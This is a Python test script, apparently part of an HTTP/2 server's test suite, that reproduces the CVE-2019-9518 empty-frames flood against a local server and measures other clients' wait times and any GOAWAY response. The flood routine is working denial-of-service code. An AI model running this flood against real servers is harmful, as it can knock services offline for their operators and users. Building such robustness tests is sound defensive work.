# SPDX-License-Identifier: Apache-2.0
#
# A flood of HTTP/2 frames that make no progress (CVE-2019-9518) against a
# running server, and what another client waits meanwhile: the flooder
# opens a stream (a POST whose body never comes) and sends empty DATA
# frames on it as fast as it can, for SECONDS or until the server ends
# the connection; a prober opens a fresh connection every 10 ms and asks
# PATH, first for a quiet spell as long (its worst wait then is the
# machine's own, loaded by whatever else runs), then as long again from
# the flood's start.
#
#     h2flood.py PORT SECONDS [FLOOD_PATH [PROBE_PATH]]
#
# Prints one line: "cut CUT_S goaway CODE frames N quiet_worst_ms Q
# flood_worst_ms W probes P failed F" (CUT_S -1 and CODE -1: never cut).
# Exits 0; the caller judges. Written for corHttp2Test and to run the same
# flood against nginx (docs/http2.md).

import select
import socket
import sys
import threading
import time

import h2edge
from h2edge import DATA, GOAWAY, Peer, frame

PROBE_EVERY_S = 0.01
BATCH = 1000


def probe(path):
    """One fresh connection's GET: its wait in ms, or None (failed)."""
    began = time.monotonic()
    try:
        p = Peer()
        p.get(1, path)
        status, body, rst = p.response(1, 5.0)
        p.close()
    except OSError:
        return None
    if status != 200:
        return None
    return 1000 * (time.monotonic() - began)


class Prober(threading.Thread):
    def __init__(self, path):
        super().__init__(daemon=True)
        self.path = path
        self.worst = 0.0
        self.count = 0
        self.failed = 0
        self.stop = threading.Event()

    def run(self):
        while not self.stop.is_set():
            waited = probe(self.path)
            if waited is None:
                self.failed += 1
            else:
                self.worst = max(self.worst, waited)
                self.count += 1
            time.sleep(PROBE_EVERY_S)


def flood(path, seconds):
    """(seconds until the server ended it or -1, its GOAWAY code or -1,
    frames sent)."""
    p = Peer()
    p.headers(1, [(":method", "POST"), (":path", path), (":scheme", "http"),
                  (":authority", "localhost")], end=False)
    batch = frame(DATA, 0, 1) * BATCH
    began = time.monotonic()
    sent = 0
    code = None
    while time.monotonic() - began < seconds and code is None:
        try:
            p.s.settimeout(1.0)
            p.s.sendall(batch)
        except socket.timeout:
            continue            # the server reads nothing: still open
        except OSError:
            break
        sent += BATCH
        # What came back, read as it comes: a close with our flood unread
        # resets the connection, and the GOAWAY before it would be lost.
        while code is None and select.select([p.s], [], [], 0)[0]:
            f = p.next(0.01)
            if f is None:
                break
            if f[0] == GOAWAY:
                code = int.from_bytes(f[3][4:8], "big")
        if p.closed:
            break
    cut = time.monotonic() - began
    if code is None:
        code = p.goaway(1.0)
    closed = p.ends(1.0)
    p.close()
    if not closed and code is None:
        return -1, -1, sent
    return cut, -1 if code is None else code, sent


def main():
    h2edge.PORT = int(sys.argv[1])
    seconds = float(sys.argv[2])
    flood_path = sys.argv[3] if len(sys.argv) > 3 else "/echo"
    probe_path = sys.argv[4] if len(sys.argv) > 4 else "/hello"
    quiet = Prober(probe_path)
    quiet.start()
    time.sleep(seconds)
    quiet.stop.set()
    quiet.join()
    loud = Prober(probe_path)
    loud.start()
    cut, code, sent = flood(flood_path, seconds)
    if cut >= 0 and cut < seconds:
        time.sleep(seconds - cut)   # the prober goes on as long anyway
    loud.stop.set()
    loud.join()
    print("cut %.3f goaway %d frames %d quiet_worst_ms %.1f "
          "flood_worst_ms %.1f probes %d failed %d"
          % (cut, code, sent, quiet.worst, loud.worst, loud.count,
             loud.failed + quiet.failed))


if __name__ == "__main__":
    main()
